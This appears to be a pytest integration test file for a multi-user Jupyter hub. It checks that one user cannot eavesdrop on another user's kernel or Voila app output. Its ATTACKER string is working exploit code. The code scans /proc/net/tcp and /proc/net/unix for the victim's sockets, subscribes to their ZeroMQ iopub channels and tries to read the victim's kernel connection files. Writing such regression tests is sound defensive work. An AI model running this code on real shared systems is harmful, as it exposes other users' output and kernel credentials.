"""Attack: user B's session reads user A's kernel output over the node's network.

A kernel on TCP listens on 127.0.0.1 ports that any account on the node can reach; its
iopub channel is a ZeroMQ PUB socket that sends every output to whoever subscribes (the
HMAC key only signs messages, it doesn't gate a subscriber). So B's code finds A's
listening ports in /proc/net/tcp (which shows each socket's uid), subscribes to each, and
reads what A's kernel prints. Kernels on IPC sockets in A's private runtime folder leave
nothing to find on TCP, and the socket files (whose paths /proc/net/unix shows to all) sit
in a 0700 folder B can't enter. Seen red before the fix: B read A's secret from iopub.

The same for an app's kernel (Voila, in A's `app-NAME` server): seen red with Voila's
kernels on TCP, B read what the app printed.
"""

from __future__ import annotations

import os

import nbformat
import pytest

from tests.integration.apps_kit import cli, open_app
from tests.integration.hub import RunningHub, workdir

pytestmark = pytest.mark.integration

SECRET = "sz-secret-7f3a"

# A's kernel prints the secret from a thread every 0.2 s for a minute.
VICTIM = f"""
import threading, time
def leak():
    for _ in range(300):
        print({SECRET!r}, flush=True)
        time.sleep(0.2)
threading.Thread(target=leak, daemon=True).start()
print("leaking")
"""

# B's kernel: every TCP listener of A's uid and every Unix socket of a kernel on the node,
# subscribed to for 4 s; and A's connection files, read if it can.
ATTACKER = """
import glob, os, time, zmq
uid = {uid}
ports = set()
for line in open("/proc/net/tcp").read().splitlines()[1:]:
    f = line.split()
    if f[3] == "0A" and int(f[7]) == uid:  # LISTEN, owned by the victim
        ports.add(int(f[1].split(":")[1], 16))
ipc = set()
for line in open("/proc/net/unix").read().splitlines()[1:]:
    f = line.split()
    if len(f) >= 8 and "-ipc-" in f[-1]:
        ipc.add(f[-1])
ctx = zmq.Context()
subs = []
for addr in [f"tcp://127.0.0.1:{{p}}" for p in ports] + [f"ipc://{{p}}" for p in ipc]:
    s = ctx.socket(zmq.SUB)
    s.setsockopt(zmq.SUBSCRIBE, b"")
    s.setsockopt(zmq.LINGER, 0)
    s.connect(addr)
    subs.append(s)
poller = zmq.Poller()
for s in subs:
    poller.register(s, zmq.POLLIN)
seen = False
end = time.time() + 4
while time.time() < end and not seen:
    for s, _ in poller.poll(200):
        if b"{secret}" in b"".join(s.recv_multipart()):
            seen = True
files = []
for pattern in ["{home}/.local/share/jupyter/runtime/*.json", "/tmp/jupyter-run-*/*.json"]:
    for path in glob.glob(pattern):
        try:
            if os.stat(path).st_uid != os.getuid():  # not the attacker's own kernel's
                open(path).read()
                files.append(path)
        except OSError:
            pass
print("TCP", len(ports), "IPC", len(ipc), "READ", seen, "FILES", files)
"""


@pytest.fixture(scope="module")
def hub():
    with RunningHub(workdir(), gpus=0) as h:
        for name in ("alice", "mallory"):
            h.new_user(name)
            h.spawn(name, "cpu")
        for name in ("alice", "mallory"):
            h.wait_ready(name)
        yield h


def attack(hub, attacker: str, victim: str, secret: str) -> dict[str, str]:
    uid = int(hub.run_code(victim, "import os; print(os.getuid())"))
    home = hub.homes / f"{hub.prefix}{victim}"
    out = hub.run_code(attacker, ATTACKER.format(uid=uid, secret=secret, home=home)).split()
    return dict(zip(out[::2], out[1::2], strict=False))


def kernel_uid(hub, name: str, token: str) -> int:
    return int(hub.run_code_keep(name, "import os; print(os.getuid())", token))


@pytest.mark.skipif(os.geteuid() != 0, reason="users get their own Unix accounts only as root")
def test_another_user_cannot_read_a_kernels_output_over_the_network(hub):
    alice = hub.token_for("alice")
    uid = kernel_uid(hub, "alice", alice)
    assert "leaking" in hub.run_code_keep("alice", VICTIM, alice)
    home = hub.homes / f"{hub.prefix}alice"
    code = ATTACKER.format(uid=uid, secret=SECRET, home=home)
    out = hub.run_code("mallory", code).split()
    report = dict(zip(out[::2], out[1::2], strict=False))
    assert report["READ"] == "False", out
    # A's Lab (behind the hub's auth) and ipykernel 7.4's pipe for subprocess output (PULL:
    # nothing to read; it drops messages without its random key); a kernel on TCP has 5 more.
    assert int(report["TCP"]) <= 2, out
    assert int(report["IPC"]) >= 5, out  # A's kernel is there, on IPC sockets B can't open
    assert report["FILES"] == "[]", out


APP_SECRET = "sz-app-secret-91c2"


@pytest.mark.skipif(os.geteuid() != 0, reason="users get their own Unix accounts only as root")
def test_another_user_cannot_read_an_app_kernels_output_over_the_network(hub):
    folder = hub.base / "alice-app"
    folder.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(VICTIM.replace(SECRET, APP_SECRET))]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    nbformat.write(nb, folder / "leak.ipynb")
    token = hub.token_for("alice")
    r = cli(hub, token, "publish", str(folder / "leak.ipynb"), "--name", "leak")
    assert r.returncode == 0, r.stderr
    owner = hub.login("alice", "correct-horse-9")  # the owner views her own app
    page = open_app(owner, f"{hub.url}/services/apps/open/alice/leak")
    assert page.status_code == 200 and "leaking" in page.text, page.text[-500:]
    report = attack(hub, "mallory", "alice", APP_SECRET)
    assert report["READ"] == "False", report
    assert report["FILES"] == "[]", report
